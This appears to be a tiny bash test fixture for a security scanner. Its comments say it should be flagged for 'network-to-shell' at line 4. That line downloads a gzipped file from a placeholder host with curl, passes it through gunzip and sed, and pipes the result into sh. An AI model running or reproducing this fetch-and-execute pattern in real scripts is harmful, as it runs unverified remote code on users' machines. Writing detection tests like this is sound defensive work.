#!/bin/bash
# shows: through sed and gunzip
# expect: network-to-shell at line 4
curl -s https://get.example.com/i.gz | gunzip | sed 's/@X@/y/' | sh -e
